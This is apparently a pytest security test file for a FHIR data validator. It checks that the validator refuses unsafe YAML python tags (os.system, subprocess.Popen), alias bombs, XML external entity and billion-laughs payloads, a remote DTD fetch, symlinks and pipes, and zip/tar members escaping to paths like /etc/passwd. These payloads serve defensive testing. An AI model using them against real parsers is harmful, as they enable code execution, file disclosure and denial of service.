"""Safety: no code from a standard, no entities from XML, nothing read or written outside.

YAML is loaded safely; FHIR XML refuses DTDs and entities; folder inputs do not follow
links out of the tree (nor read pipes); archive members cannot leave the extraction folder.
"""

from __future__ import annotations

import gc
import io
import os
import shutil
import signal
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import orjson
import pytest

from conformance.errors import StandardError
from conformance.fhir.fhir_xml import FhirXmlError, parse_fhir_xml
from conformance.limits import Limits
from conformance.readers.archive import extract_archive
from conformance.standards.loader import read_yaml
from tests.conftest import REPO, CliResult, ndjson, patient

Cli = Callable[..., CliResult]
MDSS = REPO / "standards" / "mdss" / "1.0.0"


@contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Raise TimeoutError in this (main) thread if the block runs longer than ``seconds``."""

    def expire(signum: int, frame: Any) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    # No garbage collection meanwhile: the alarm must not fire inside a gc callback, where
    # its exception would be unraisable.
    collecting = gc.isenabled()
    gc.disable()
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
        if collecting:
            gc.enable()


def _json(result: CliResult) -> dict[str, Any]:
    assert result.code in (0, 1), result.err
    card: dict[str, Any] = result.json()
    return card


def _validate(cli: Cli, *args: Any) -> dict[str, Any]:
    return _json(cli("validate", *args, "-f", "json", "--no-progress", "--jobs", "1"))


def _standard_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "standard"
    shutil.copytree(MDSS, folder)
    return folder


# ------------------------------------------------------------------------------- YAML


@pytest.mark.parametrize(
    "tag",
    [
        '!!python/object/apply:os.system ["touch {marker}"]',
        "!!python/name:os.system",
        '!!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
    ],
)
def test_yaml_python_tags_are_refused(cli: Cli, tmp_path: Path, tag: str) -> None:
    marker = tmp_path / "code-ran"
    folder = _standard_copy(tmp_path)
    text = (folder / "standard.yaml").read_text()
    title = "title: Minimum Data Sharing Standard for Integrated Care Systems"
    assert title in text
    evil = "title: " + tag.format(marker=marker)
    (folder / "standard.yaml").write_text(text.replace(title, evil))
    feed = tmp_path / "feed.ndjson"
    feed.write_bytes(ndjson(patient()))
    result = cli("validate", feed, "--standard", folder, "--no-progress")
    assert result.code == 2
    assert "standard.yaml:" in result.err and "Traceback" not in result.err
    assert not marker.exists()


def _alias_bomb(levels: int) -> str:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for n in range(1, levels + 1):
        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    path = tmp_path / "standard.yaml"
    path.write_text(_alias_bomb(6))  # 9**7 leaves once expanded
    with time_limit(1.5), pytest.raises(StandardError, match="aliases are not allowed"):
        read_yaml(path)


# -------------------------------------------------------------------------------- XML

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [ <!ENTITY secret SYSTEM "file://{path}"> ]>
<Patient xmlns="http://hl7.org/fhir"><id value="&secret;"/></Patient>
"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [
  <!ENTITY a "aaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<Patient xmlns="http://hl7.org/fhir"><id value="&d;"/></Patient>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Patient [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<Patient xmlns="http://hl7.org/fhir"><id value="x"/></Patient>
"""


@pytest.mark.parametrize("kind", ["external", "expansion", "parameter", "undeclared"])
def test_xml_entities_are_refused(tmp_path: Path, kind: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    document = {
        "external": XXE.replace(b"{path}", str(secret).encode()),
        "expansion": LAUGHS,
        "parameter": PARAMETER_ENTITY,
        "undeclared": b'<Patient xmlns="http://hl7.org/fhir"><id value="&nope;"/></Patient>',
    }[kind]
    with pytest.raises(FhirXmlError) as caught:
        parse_fhir_xml(document)
    assert "TOP-SECRET" not in str(caught.value)


def test_plain_fhir_xml_still_parses() -> None:
    parsed = parse_fhir_xml(
        b'<Patient xmlns="http://hl7.org/fhir"><id value="p1"/><gender value="male"/></Patient>'
    )
    assert parsed == {"resourceType": "Patient", "id": "p1", "gender": "male"}


def test_unsafe_xml_in_a_standard_is_a_clean_error(cli: Cli, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    folder = _standard_copy(tmp_path)
    (folder / "profiles" / "evil.xml").write_bytes(XXE.replace(b"{path}", str(secret).encode()))
    feed = tmp_path / "feed.ndjson"
    feed.write_bytes(ndjson(patient()))
    try:
        result = cli("validate", feed, "--standard", folder, "--no-progress")
    except Exception as exc:  # the bug: it escapes the command line
        pytest.fail(f"uncaught {type(exc).__name__}: {exc}")
    assert result.code == 2 and "evil.xml" in result.err
    assert "TOP-SECRET" not in result.out + result.err


# --------------------------------------------------------------------------- FHIRPath


def test_fhirpath_evaluation_cost_is_bounded() -> None:
    from conformance.fhir.fhirpath import (
        EvaluationOptions,
        FhirPathEvaluationError,
        compile_expression,
    )

    expensive = compile_expression("%a.select(%a).select(%a)")
    options = EvaluationOptions(variables={"a": list(range(300))})
    with time_limit(1.5), pytest.raises(FhirPathEvaluationError):
        expensive({"resourceType": "Patient"}, options=options)


def test_standards_cannot_name_python_code(cli: Cli, tmp_path: Path) -> None:
    """A check type is looked up among registered plugins only, never imported by name."""
    import yaml

    folder = _standard_copy(tmp_path)
    data = yaml.safe_load((folder / "standard.yaml").read_text())
    data["requirements"][0]["check"]["type"] = "os.system"
    (folder / "standard.yaml").write_text(yaml.safe_dump(data))
    feed = tmp_path / "feed.ndjson"
    feed.write_bytes(ndjson(patient()))
    result = cli("validate", feed, "--standard", folder, "--no-progress")
    assert result.code == 2 and "os.system" in result.err and "Traceback" not in result.err


# ------------------------------------------------------------------ folders and links


def test_links_out_of_the_tree_are_not_followed(cli: Cli, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.ndjson").write_bytes(ndjson(*[patient(id=f"s{i}") for i in range(3)]))
    feed = tmp_path / "feed"
    (feed / "sub").mkdir(parents=True)
    (feed / "Patient.ndjson").write_bytes(ndjson(patient(id="in")))
    (feed / "linked-file.ndjson").symlink_to(outside / "secret.ndjson")
    (feed / "sub" / "linked-dir").symlink_to(outside, target_is_directory=True)
    (feed / "inside-link.ndjson").symlink_to(feed / "Patient.ndjson")
    card = _validate(cli, feed)
    assert card["counts"]["records_read"] == 2  # the file and the link inside the tree
    warned = sorted(
        f["location"]["file"] for f in card["findings"] if f["code"] == "link-outside-input"
    )
    assert warned == ["linked-file.ndjson", "sub/linked-dir"]  # relative to the feed
    assert not any("secret" in item["file"] for item in card["inputs"])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_named_pipe_in_the_tree_is_skipped_not_read(cli: Cli, tmp_path: Path) -> None:
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "Patient.ndjson").write_bytes(ndjson(patient()))
    os.mkfifo(feed / "pipe.ndjson")
    with time_limit(30):  # reading the pipe would block for ever
        card = _validate(cli, feed)
    assert card["counts"]["records_read"] == 1
    assert [f["code"] for f in card["findings"] if f["code"] == "not-a-regular-file"] == [
        "not-a-regular-file"
    ]


# --------------------------------------------------------------------------- archives


def _zip_with(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        for info, data in members:
            zipped.writestr(info, data)
    return out.getvalue()


def _zip_link(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o120777 << 16) | 0
    info.create_system = 3
    return info


def test_zip_members_cannot_escape(tmp_path: Path) -> None:
    base = tmp_path / "work"
    base.mkdir()
    body = ndjson(patient())
    archive = tmp_path / "feed.zip"
    archive.write_bytes(
        _zip_with(
            [
                ("feed/Patient.ndjson", body),
                ("../escaped.ndjson", body),
                ("feed/../../escaped2.ndjson", body),
                (str(tmp_path / "absolute.ndjson"), body),
                ("..\\windows.ndjson", body),
                (_zip_link("feed/link.ndjson", "/etc/passwd"), b"/etc/passwd"),
            ]
        )
    )
    dest = base / "out"
    dest.mkdir()
    _, issues = extract_archive(archive, dest, Limits())
    written = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file())
    assert written == ["feed/Patient.ndjson"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.zip", "work"]
    refused = [i for i in issues if i.code == "unsafe-archive-member"]
    assert len(refused) == 5
    assert not any(p.is_symlink() for p in dest.rglob("*"))


def test_tar_members_cannot_escape(tmp_path: Path) -> None:
    body = ndjson(patient())
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:

        def add(info: tarfile.TarInfo, data: bytes = b"") -> None:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))

        add(tarfile.TarInfo("feed/Patient.ndjson"), body)
        add(tarfile.TarInfo("../escaped.ndjson"), body)
        add(tarfile.TarInfo(str(tmp_path / "absolute.ndjson")), body)
        link = tarfile.TarInfo("feed/link.ndjson")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        add(link)
        hard = tarfile.TarInfo("feed/hard.ndjson")
        hard.type, hard.linkname = tarfile.LNKTYPE, "../../etc/passwd"
        add(hard)
        device = tarfile.TarInfo("feed/device.ndjson")
        device.type = tarfile.CHRTYPE
        add(device)
        fifo = tarfile.TarInfo("feed/fifo.ndjson")
        fifo.type = tarfile.FIFOTYPE
        add(fifo)
    path = tmp_path / "feed.tar.gz"
    path.write_bytes(out.getvalue())
    dest = tmp_path / "out"
    dest.mkdir()
    _, issues = extract_archive(path, dest, Limits())
    everything = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*"))
    assert everything == ["feed", "feed/Patient.ndjson"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.tar.gz", "out"]
    assert len([i for i in issues if i.code == "unsafe-archive-member"]) == 6


def test_unsafe_archive_end_to_end(cli: Cli, tmp_path: Path) -> None:
    archive = tmp_path / "feed.zip"
    archive.write_bytes(
        _zip_with([("feed/Patient.ndjson", ndjson(patient())), ("../x.ndjson", b"{}\n")])
    )
    card = _validate(cli, archive)
    assert card["counts"]["records_read"] == 1
    [finding] = [f for f in card["findings"] if f["code"] == "unsafe-archive-member"]
    assert finding["location"]["file"] == "../x.ndjson"  # the member, as the archive names it
    assert card["feed"]["root"] == str(archive)
    assert not (tmp_path.parent / "x.ndjson").exists()


def test_zip_member_with_an_empty_name(tmp_path: Path) -> None:
    """Found by the atheris harness: ZipInfo.is_dir() raised IndexError on an empty name."""
    archive = tmp_path / "feed.zip"
    archive.write_bytes(_zip_with([(zipfile.ZipInfo(""), b"x"), ("a.ndjson", ndjson(patient()))]))
    dest = tmp_path / "out"
    dest.mkdir()
    _, issues = extract_archive(archive, dest, Limits())
    assert [i.code for i in issues] == ["unsafe-archive-member"]
    assert (dest / "a.ndjson").is_file()


def test_xml_feed_file_with_entities_is_a_finding(cli: Cli, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "xxe.xml").write_bytes(XXE.replace(b"{path}", str(secret).encode()))
    (feed / "laughs.xml").write_bytes(LAUGHS)
    with time_limit(30):
        card = _validate(cli, feed)
    assert card["counts"]["records_read"] == card["counts"]["records_unparseable"] == 2
    assert [f["code"] for f in card["findings"] if f["code"] == "invalid-xml"] == [
        "invalid-xml"
    ] * 2
    assert "TOP-SECRET" not in orjson.dumps(card).decode()
